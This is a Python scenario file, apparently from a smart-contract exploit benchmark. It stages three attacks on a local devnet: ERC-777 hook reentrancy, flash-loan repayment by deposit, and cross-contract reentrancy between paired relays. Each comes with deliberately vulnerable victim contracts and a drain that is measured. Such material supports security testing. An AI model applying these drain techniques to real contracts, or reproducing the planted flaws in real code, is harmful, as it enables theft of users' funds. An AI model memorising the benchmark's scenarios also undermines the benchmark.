"""Reentrancy through callbacks other than a plain ether receive().

- `gen-erc777-hook-reentrancy` (solc 0.7.6): TokenEscrow pays HOOK out before clearing the
  balance; HookToken calls the recipient's ERC-777-style `tokensReceived`, which withdraws again.
- `gen-erc3156-deposit-repay`: FlashSavingsVault lends its WETH as ERC-3156 flash loans and checks
  repayment on its balance only; the borrower's `onFlashLoan` deposits the loan (crediting
  itself), the check passes, and the deposit is withdrawn.
- `gen-cross-contract-reentrancy`: EtherStaking pays a staker's share balance, then burns what the
  staker holds by then; two relays pass the shares to each other through the separate share token
  while the staking contract pays, each unstaking the same shares again.
"""

from __future__ import annotations

from timemachine.catalog.builder import ETHER
from timemachine.catalog.devnet import actor_address
from timemachine.catalog.exploit import measure_exploit
from timemachine.catalog.models import ScenarioRecord
from timemachine.catalog.scenarios.base import declared
from timemachine.catalog.scenarios.generalization.kit import ATTACKER, MAX, bind, deploy_own
from timemachine.catalog.scenarios.world import World

ESCROWED = {"alice": 40, "bob": 30, "dave": 20}
"""Whole HOOK each user keeps in the escrow."""
STAKE = 10 * ETHER
REENTRY_GAS = 3_000_000
SAVINGS = {"alice": 12, "erin": 8, "heidi": 5}
STAKED = {"alice": 30, "bob": 40, "erin": 20}


async def stage_erc777(world: World) -> ScenarioRecord:
    chain, a = world.chain, actor_address
    token = await deploy_own(chain, "deployer", "HookToken")
    await chain.mine()
    escrow = await deploy_own(chain, "deployer", "TokenEscrow", token.address)
    for user, amount in ESCROWED.items():
        await token.send("deployer", "mint", a(user), amount * ETHER)
    await token.send("deployer", "mint", a(ATTACKER), STAKE)
    await chain.mine()
    for user, amount in ESCROWED.items():
        await token.send(user, "approve", escrow.address, MAX)
        await escrow.send(user, "deposit", amount * ETHER)
    drainer = await deploy_own(chain, ATTACKER, "EscrowDrainer", token.address, escrow.address)
    await chain.mine()
    await token.send(ATTACKER, "transfer", drainer.address, STAKE)
    await escrow.send("bob", "withdraw")
    await escrow.send("bob", "deposit", ESCROWED["bob"] * ETHER)
    await chain.mine()
    outcome = await measure_exploit(
        chain,
        lambda: drainer.send(ATTACKER, "attack", STAKE, gas=REENTRY_GAS),
        attackers=[a(ATTACKER), drainer.address],
        victims=[escrow.address],
        tokens=[token.address],
        expected_losses={token.address.lower(): sum(ESCROWED.values()) * ETHER},
        what="ERC-777 hook reentrancy",
    )
    return ERC777.exploited(
        outcome, attacker=a(ATTACKER), contracts=[drainer.address], victims=[escrow.address]
    )


async def stage_flash_deposit(world: World) -> ScenarioRecord:
    chain, weth, a = world.chain, world.weth, actor_address
    vault = await deploy_own(chain, "deployer", "FlashSavingsVault", weth.address)
    depositor = await deploy_own(chain, ATTACKER, "FlashDepositor")
    for user, amount in SAVINGS.items():
        await weth.send(user, "deposit", value=amount * ETHER)
    await chain.mine()
    for user, amount in SAVINGS.items():
        await weth.send(user, "approve", vault.address, MAX)
        await vault.send(user, "deposit", amount * ETHER)
    await chain.mine()
    await vault.send("erin", "withdraw", 3 * ETHER)
    await chain.mine()
    held = (sum(SAVINGS.values()) - 3) * ETHER
    outcome = await measure_exploit(
        chain,
        lambda: depositor.send(ATTACKER, "attack", vault.address, gas=600_000),
        attackers=[a(ATTACKER), depositor.address],
        victims=[vault.address],
        tokens=[weth.address],
        expected_losses={weth.address.lower(): held},
        what="ERC-3156 deposit-as-repayment",
    )
    return FLASH_DEPOSIT.exploited(
        outcome, attacker=a(ATTACKER), contracts=[depositor.address], victims=[vault.address]
    )


async def stage_cross_contract(world: World) -> ScenarioRecord:
    chain, a = world.chain, actor_address
    staking = await deploy_own(chain, "deployer", "EtherStaking", gas=3_000_000)
    await chain.mine()
    shares = await staking.call("shares")
    bind(chain, shares, "GenToken", "EtherStaking shares")
    await staking.fund("stake", STAKED)
    first = await deploy_own(chain, ATTACKER, "StakeRelay", staking.address, name="StakeRelay A")
    second = await deploy_own(chain, ATTACKER, "StakeRelay", staking.address, name="StakeRelay B")
    await chain.mine()
    await first.send(ATTACKER, "pair", second.address)
    await second.send(ATTACKER, "pair", first.address)
    await chain.mine()
    return await CROSS_CONTRACT.drained(
        chain,
        lambda: first.send(ATTACKER, "attack", value=STAKE, gas=REENTRY_GAS),
        attacker=a(ATTACKER),
        contracts=[first.address, second.address],
        victim=staking.address,
        held=sum(STAKED.values()) * ETHER,
        left=0,
        what="cross-contract reentrancy",
    )


ERC777 = declared("gen-erc777-hook-reentrancy", stage_erc777)
FLASH_DEPOSIT = declared("gen-erc3156-deposit-repay", stage_flash_deposit)
CROSS_CONTRACT = declared("gen-cross-contract-reentrancy", stage_cross_contract)
